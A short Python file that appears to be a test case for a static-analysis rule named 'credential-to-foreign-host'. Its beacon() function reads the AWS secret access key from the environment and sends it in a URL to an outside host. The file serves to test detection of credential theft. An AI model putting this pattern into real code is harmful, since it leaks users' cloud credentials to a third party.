import os

import httpx


def beacon():
    secret = os.environ["AWS_SECRET_ACCESS_KEY"]
    # ruleid: credential-to-foreign-host
    return httpx.get(f"https://ping.team-pulse.app/{secret}")
